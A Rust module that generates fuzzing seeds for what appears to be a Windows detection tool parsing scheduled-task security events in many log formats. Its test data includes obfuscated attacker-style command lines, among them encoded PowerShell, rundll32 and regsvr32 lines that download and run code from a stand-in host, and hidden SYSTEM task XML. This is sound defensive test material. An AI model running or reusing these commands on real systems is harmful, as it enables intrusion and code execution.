//! Inputs from which fuzzing starts: for each fuzz target, of the form that it reads.

use crate::inputs::expensive::{PARTS, Recipe, WORDS};
use crate::inputs::samples::{Sample, Shape, task_xml};
use crate::{catalogue, hostile, project};
use schtag_test_files::event_log::{self, Event};
use serde_json::{Value, json};
use std::fs;

/// The fuzz targets, as `fuzz/fuzz_targets` has them.
pub const TARGETS: [&str; 11] =
    ["record", "wasm", "fuel", "scan", "splice", "repair", "task", "command", "rules", "settings", "evtx"];

/// Larger inputs teach a fuzzer nothing and slow it down.
const MAX: usize = 32 * 1024;

/// Commands with their arguments, one of each kind that is read in a way of its own.
const COMMANDS: [(&str, &str); 14] = [
    ("powershell.exe", "-w hidden -nop -enc SQBFAFgAIAAoACcAYQAnACsAJwBiACcAKQA="),
    ("powershell", "-Command \"IEX ('{1}{0}' -f 'x','ie'); [char]105+'ex'; 'cba'[-1..-3] -join ''\""),
    ("powershell", "/e\u{2013}c H4sIAAAAAAAA; [Convert]::FromBase64String('SGVsbG8sIHdvcmxkISBIZWxsbw==')"),
    ("pwsh", "-File:C:\\Users\\Public\\x.ps1 -Foo 1"),
    ("cmd.exe", "/v:on /c set a=power&& set b=shell&& !a!!b! -c x ^& y | z > \"C:\\a b.txt\""),
    ("%comspec%", "/c start \"t\" /min /b cmd /c %windir:~0,3%p^o^w\"e\"r`shell"),
    ("conhost.exe", "--headless cmd /c echo x"),
    ("forfiles", "/p c:\\ /m *.exe /c \"cmd /c @file\""),
    ("wscript.exe", "//e:vbscript C:\\x.txt CreateObject(\"WScript.Shell\").Run \"calc\""),
    ("mshta", "vbscript:Close(Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -c x\"\"\"))"),
    ("rundll32.exe", "PowerShdll.dll,main . { iwr -useb http://example.invalid/a } ^| iex;"),
    ("\\\\?\\C:\\PROGRA~1\\..\\Windows\\System32\\regsvr32", "/s /u /i:http://example.invalid/x scrobj.dll"),
    ("%windir%\\system32\\defrag.exe", "-c -h -k -g -$"),
    ("\"C:\\Program Files\\a b\\c.exe\" x", "&amp;#x26; &lt;y&gt; \u{201c}z\u{201d}"),
];

/// The inputs for a target.
///
/// # Errors
/// A sentence when a rule's file cannot be read.
pub fn of(target: &str) -> Result<Vec<Vec<u8>>, String> {
    let mut seeds = match target {
        "record" => {
            let mut seeds = records()?;
            seeds.push(sequence());
            seeds
        }
        "wasm" => records()?.into_iter().map(|record| [b"win.security\0", &*record].concat()).collect(),
        "fuel" => dear(),
        "scan" | "splice" | "repair" => {
            let mut seeds = records()?;
            seeds.extend(
                [r#"{"k":1,"a":[{"k":2}],"\u006b" : 3 , "b":-1.5e+3,"c":"\ud83d\ude00\/"}"#, "{}", "{ } \n"]
                    .map(|text| text.as_bytes().to_vec()),
            );
            seeds
        }
        "task" => COMMANDS
            .iter()
            .map(|(command, arguments)| task_xml(command, arguments).into_bytes())
            .chain(odd_tasks().iter().map(|task| task.as_bytes().to_vec()))
            .collect(),
        "command" => COMMANDS
            .iter()
            .map(|(command, arguments)| format!("{command}\n{arguments}").into_bytes())
            .collect(),
        "rules" => rule_files("rule.yml")?.into_iter().map(String::into_bytes).collect(),
        "settings" => settings().iter().map(|text| text.as_bytes().to_vec()).collect(),
        "evtx" => event_logs(),
        other => return Err(format!("there is no fuzz target {other}")),
    };
    seeds.retain(|seed| seed.len() <= MAX);
    Ok(seeds)
}

/// Each part of a task with words that are costly to read there.
fn dear() -> Vec<Vec<u8>> {
    let parts = (0_u8..).zip(PARTS).flat_map(|(number, part)| {
        WORDS.iter().skip(usize::from(number)).step_by(9).map(move |word| {
            let text = Recipe::of_word(part, word, 600).text();
            [&[number], text.as_bytes()].concat()
        })
    });
    parts.collect()
}

fn records() -> Result<Vec<Vec<u8>>, String> {
    let mut records: Vec<Vec<u8>> = Vec::new();
    for (number, (command, arguments)) in COMMANDS.iter().enumerate() {
        let id = [4698, 4702, 4700, 4701, 4699].get(number % 5).copied().unwrap_or(4698);
        for shape in Shape::ALL {
            records.push(Sample::new(id, command, arguments).record(shape).into_bytes());
        }
    }
    records.push(Sample::new(4624, "a", "b").record(Shape::Winevtlog).into_bytes());
    for rule in catalogue::rules()? {
        let cases = rule.cases()?.into_iter().filter(|case| case.records.len() == 1);
        records.extend(cases.flat_map(|case| case.records).map(|arrival| arrival.record.into_bytes()));
    }
    records.extend(hostile::inputs().into_iter().map(|(_, input)| input));
    records.extend(other_forms().iter().map(|record| record.to_string().into_bytes()));
    Ok(records)
}

/// An event in each form that has a reader of its own, and that no sample has.
fn other_forms() -> [Value; 9] {
    const PROVIDER: &str = "Microsoft-Windows-Security-Auditing";
    let task = task_xml("powershell.exe", "-enc SQBFAFgA");
    let message = format!(
        "Eine Aufgabe.\r\n\r\nAntragsteller:\r\n\tSicherheits-ID:\t\tS-1-5-18\r\n\tKontoname:\t\ta b\r\n\tKontodomäne:\t\tNT AUTHORITY\r\n\t\
         Anmelde-ID:\t\t0x3e7\r\n\r\nAufgabe:\r\n\tAufgabenname: \t\\\\x y\r\n\tAufgabeninhalt: \t{task}\r\n\tWeitere:\r\n\tA: \t\t1\r\n\t\
         B: \t2\r\n\tC: \t3\r\n\tD: \t0\r\n"
    );
    let one_line = message.split_whitespace().collect::<Vec<_>>().join(" ");
    let data =
        json!({"SubjectUserName": "a", "SubjectLogonId": "0x3e7", "TaskName": "\\x", "TaskContent": task});
    let viewer = format!(
        "Log Name: Security\r\nSource: {PROVIDER}\r\nDate : 1:2:3\r\nEvent ID:4698\r\nComputer:ws17\r\nDescription:\r\n{message}"
    );
    [
        json!({"EventID": 4698, "Channel": "Sec", "RuleTitle": "x", "Details": {"Name": "\\x", "Content": task, "LID": "0x3e7"}}),
        json!({"EventId": 4702, "Channel": "Security", "Provider": PROVIDER, "Payload": json!({"EventData": data}).to_string()}),
        json!({"columns": {"eventid": "4700", "source": "Security", "provider_name": PROVIDER, "provider_guid": "{x}",
               "data": json!({"EventData": data}).to_string()}}),
        json!({"hits": {"hits": [{"_source": {"event": {"code": "4698"}, "winlog": {"channel": "Security", "event_data": data}}},
                                 {"_source": {"event": {"code": "4699"}, "winlog": {"channel": "Security", "event_data": data}}}]}}),
        json!({"full_log": format!("t WinEvtLog: Security: AUDIT_SUCCESS(4698): {PROVIDER}: u: d: ws17: {one_line}")}),
        json!({"log": format!("<13>Mar 1 ws17 Security-Auditing: 4698: x | TaskName=\\x | SubjectUserName: a | TaskContent={task} |")}),
        json!({"log": format!("<13>Mar 1 ws17 Security-Auditing: 4698: {one_line}")}),
        json!({"message": viewer}),
        json!({"event": {"code": "4698", "provider": PROVIDER}, "action": {"id": 4698, "properties": {"param5": "\\x", "param6": task}}}),
    ]
}

/// A task that is created and deleted at once: two records.
fn sequence() -> Vec<u8> {
    let created = Sample::new(4698, "powershell.exe", "-nop x.ps1").record(Shape::Winevtlog);
    let deleted = Sample { content: String::new(), ..Sample::new(4699, "", "") }.record(Shape::Winevtlog);
    [created.as_bytes(), b"\0", deleted.as_bytes()].concat()
}

const fn odd_tasks() -> [&'static str; 6] {
    [
        "<Task/>",
        "<!DOCTYPE t [<!ENTITY a \"b\">]><Task><Actions><Exec><Command>&a;&#x41;&amp;</Command></Exec></Actions></Task>",
        "<t:Task xmlns:t='x'><t:Actions><t:Exec><t:Command><![CDATA[cmd]]></t:Command></t:Exec></t:Actions></t:Task>",
        "<Task><!-- <Exec> --><Actions><ComHandler><ClassId>{A}</ClassId><Data>x</Data></ComHandler><SendEmail/>",
        "<Task><Triggers><EventTrigger><Subscription>&lt;QueryList/&gt;</Subscription><Delay>PT1H5M</Delay></EventTrigger><LogonTrigger><Repetition><Interval>P1DT2M</Interval></Repetition></LogonTrigger></Triggers></Task>",
        "<Task><Principals><Principal id='A'><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Hidden>true</Hidden></Settings><Actions Context='A'><Exec",
    ]
}

const fn settings() -> [&'static str; 4] {
    [
        "key: tag\nminimum_level: low\nobserve: all\nhosts:\n  role_member: host.role\n  raise_on_servers: false\n  server: ['*srv*', DC0?]\n",
        "allowlist:\n  - name: backup\n    reason: nightly\n    rules: ['*']\n    until: 2030-01-01\n    match:\n      task.name: \\Backup\n      User|startswith: [CORP\\, 'NT ']\n",
        "placeholders:\n  admins: [alice, bob]\n",
        "elastic: true\necs: true\n",
    ]
}

/// Logs of no chunk and of one, without what means nothing.
fn event_logs() -> Vec<Vec<u8>> {
    let events = |first: u64, count| -> Vec<Event> {
        (first..)
            .zip(COMMANDS.iter().cycle())
            .take(count)
            .map(|(number, (command, arguments))| {
                let data =
                    vec![("TaskName", format!(r"\{number}")), ("TaskContent", task_xml(command, arguments))];
                Event { number, id: 4698, at: 1_700_000_000 + number, data }
            })
            .collect()
    };
    let chunks = [vec![], vec![events(1, 1)], vec![events(1, 3)]];
    chunks
        .iter()
        .flat_map(|chunks| [event_log::file(chunks), event_log::file_of_templates(chunks)])
        .map(|log| event_log::shortened(&log))
        .collect()
}

/// The files of that name of all rules, in order of their folders.
fn rule_files(name: &str) -> Result<Vec<String>, String> {
    let folder = project::root().join("plugin/rules");
    let read = |error: std::io::Error| format!("{}: {error}", folder.display());
    let mut paths = Vec::new();
    for entry in fs::read_dir(&folder).map_err(read)? {
        paths.push(entry.map_err(read)?.path().join(name));
    }
    paths.sort();
    paths
        .into_iter()
        .filter(|path| path.is_file())
        .map(|path| fs::read_to_string(path).map_err(read))
        .collect()
}
